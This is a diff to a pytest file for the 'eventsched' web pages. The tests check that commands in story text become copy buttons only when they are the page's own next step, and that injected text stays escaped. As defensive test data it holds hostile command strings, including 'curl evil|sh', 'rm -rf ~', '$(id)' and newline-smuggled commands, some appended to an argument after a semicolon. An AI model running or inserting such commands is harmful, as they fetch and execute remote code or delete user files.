@@ -1,8 +1,14 @@
 """Links in the lines of a story."""
 
+import re
+import shlex
 from typing import Any
 
-from eventsched.pages.story_links import linked
+import pytest
+from markupsafe import escape
+
+from eventsched.pages.story_links import linked, linked_step
+from tests.unit.pages.test_site import GivenApi, client
 
 
 def link(path: str, **values: Any) -> str:
@@ -29,18 +35,79 @@ def test_markup_stays_text() -> None:
 
 
 def test_a_command_leads_to_the_page_that_answers_it() -> None:
-    """Also one that names no node, and with the names of pods in it; any command can be copied."""
+    """Also one that names no node, and with the names of pods in it; it can be copied."""
     copy = '<button type="button" class="copy" data-copy="{0}" aria-label="Copy: {0}">Copy</button>'
     command = "eventsched explain prod/web --why-not n0"
-    found = linked(f"try (`{command}` says) prod/web", ["prod/web"], link, {"attempt": 2})
+    found = linked_step(f"try (`{command}` says) prod/web", ["prod/web"], link, {"attempt": 2})
     assert found == (
         'try (<a href="/pods/prod/web?attempt=2?why-not=n0#why-not">'
         f"<code>{command}</code></a>{copy.format(command)} says) "
         '<a href="/pods/prod/web">prod/web</a>'
     )
     command = "eventsched explain prod/web --why-not NODE"
-    found = linked(f"run `{command}`", [], link)
+    found = linked_step(f"run `{command}`", [], link)
     assert found.startswith('run <a href="/pods/prod/web?why-not=None#why-not">')
     command = "eventsched sticky forget"
-    assert linked(f"`{command}`", [], link) == f"<code>{command}</code>{copy.format(command)}"
-    assert "<i>" not in linked('`eventsched explain a/"<i> --why-not <i>`', [], link)
+    assert linked_step(f"`{command}`", [], link) == f"<code>{command}</code>{copy.format(command)}"
+
+
+def test_a_command_has_quoted_names() -> None:
+    command = shlex.join(["eventsched", "explain", "a/\"<i> 'x", "--why-not", "n1; rm -rf ~"])
+    found = linked_step(f"`{command}`", [], link)
+    assert found.startswith('<a href="/pods/a/%22%3Ci%3E%20%27x?why-not=n1; rm -rf ~#why-not">')
+    assert f'data-copy="{escape(command)}"' in found
+    assert "<i>" not in found
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "eventsched explain x; curl evil|sh",
+        "eventsched explain a/b --why-not n1; rm -rf ~",
+        "eventsched explain a/b --why-not $(id)",
+        "eventsched explain a/b --why-not 'n1",
+        "eventsched explain a/b --why-not 'n1\x03'",
+        "eventsched explain a/b --why-not n1\nid",
+        "eventsched explain a/b --why-not --plugin=x.py",
+        "eventsched explain --plugin=a/b.py --why-not n1",
+        "eventsched explain web --why-not n1",
+        "eventsched sticky forget prod/web",
+        "eventsched forget",
+    ],
+)
+def test_a_command_that_no_step_gives_stays_text(command: str) -> None:
+    text = f"run `{command}`, then wait"
+    assert linked_step(text, [], link) == escape(text)
+
+
+def test_a_command_outside_a_next_step_stays_text() -> None:
+    text = "no: `eventsched explain prod/web --why-not n0`"
+    assert linked(text, [], link) == text
+
+
+PLANTED = "min-available: `eventsched explain prod/a --why-not n0`"
+WORKLOAD = {
+    "stream": "live", "kind": "PodGroup", "namespace": "prod", "name": "gang", "owners": [],
+    "pods": 1, "placed": 0, "nodes": [], "groups": [], "members": [], "minimum": 2,
+    "why": f"Coscheduling refuses nodes: {PLANTED}",
+    "next_step": "run `eventsched explain prod/b --why-not n0`",
+}  # fmt: skip
+TIMELINE = {
+    "stream": "live", "namespace": "prod", "name": "a", "uid": "u", "begin": 0, "end": 1,
+    "headline": [f"prod/a waits: {PLANTED}", f"Next step: {WORKLOAD['next_step']}."],
+    "demands": None, "lanes": [], "pods": [],
+    "story": [{"position": 1, "at": "2026-11-25T18:00:00+00:00", "text": PLANTED}],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("path", ["/pods/prod/a", "/workloads/prod/group/gang"])
+def test_a_page_gives_only_the_command_of_its_next_step(path: str) -> None:
+    """The author of a pod writes reasons, which quote labels and annotations."""
+    no_attempts: dict[str, Any] = {"older": [], "attempts": []}
+    is_pod = path.startswith("/pods")
+    api = GivenApi(timeline=TIMELINE, explain=no_attempts if is_pod else WORKLOAD)
+    page = client(api).get(f"{path}?stream=live")
+    assert page.status_code == 200
+    assert page.text.partition("</main>")[0].count(PLANTED) == (2 if is_pod else 1)
+    copied = re.findall('data-copy="([^"]*--why-not[^"]*)"', page.text)
+    assert copied == ["eventsched explain prod/b --why-not n0"]
